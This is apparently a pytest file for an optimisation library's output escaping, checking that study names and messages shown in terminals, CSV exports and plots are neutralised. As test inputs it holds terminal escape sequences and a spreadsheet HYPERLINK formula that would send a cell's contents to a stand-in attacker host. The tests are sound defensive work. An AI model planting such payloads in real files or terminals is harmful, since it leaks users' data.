"""Study data shown to people: terminals, spreadsheets and plots get it escaped."""

import csv
import io

import pytest

import bodi
from bodi.cli import main
from bodi.escaping import csv_cell, for_terminal
from bodi.space import Binary, SearchSpace
from bodi.study import create_study

SPACE = SearchSpace([Binary(f"b{i}") for i in range(4)])


def _study(path, name, values, messages=()):
    values, messages = iter(values), iter(messages)

    def f(params):
        value = next(values)
        if value is None:
            raise RuntimeError(next(messages))
        return value

    study = create_study(bodi.RandomSearch(SPACE, seed=0), storage=path, study_name=name)
    bodi.minimize(f, SPACE, budget=5, study=study, catch=RuntimeError)
    return path


def test_control_characters_and_formulas_are_escaped():
    assert for_terminal("a\x1b]0;pwned\x07b\n") == "a\\x1b]0;pwned\\x07b\\n"
    assert for_terminal("café 🙂") == "café 🙂"
    assert csv_cell("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
    assert [csv_cell(v) for v in ("-1", "@SUM(A1)", "plain", -1.5, 3)] == [
        "'-1", "'@SUM(A1)", "plain", -1.5, 3]


def test_studies_prints_no_escape_sequence_of_a_study_name(tmp_path, capsys):
    storage = _study(tmp_path / "s.db", "evil\x1b[2J\x1b]0;title\x07", [1.0, 2.0, 3.0, 4.0, 5.0])
    assert main(["studies", str(storage)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "evil\\x1b[2J" in out


def test_show_csv_writes_no_live_formula(tmp_path, capsys):
    study = create_study(bodi.RandomSearch(SPACE, seed=0), storage=tmp_path / "s.db")
    formula = '=HYPERLINK("http://attacker/?"&A1,"click")'
    study.tell_failure(study.ask(), formula)
    study.tell(study.ask(), -2.0)
    assert main(["show", str(tmp_path / "s.db"), "--csv", "-"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["message"] == "'" + formula
    assert rows[1]["value"] == "-2.0"  # a number stays a number


@pytest.mark.parametrize("name, values", [
    ("huge", [1.7e308, -1.7e308, 1.0, 2.0, 3.0]),
    ("math $\\foo{$ text", [1.0, 2.0, 3.0, 4.0, 5.0]),
])
def test_show_draws_huge_values_and_names_with_math_text(name, values, tmp_path, capsys):
    pytest.importorskip("matplotlib")
    storage = _study(tmp_path / "s.db", name, values)
    assert main(["show", str(storage), "--plot", str(tmp_path / "p.png")]) == 0
    assert (tmp_path / "p.png").stat().st_size > 1000
    assert capsys.readouterr().err == ""
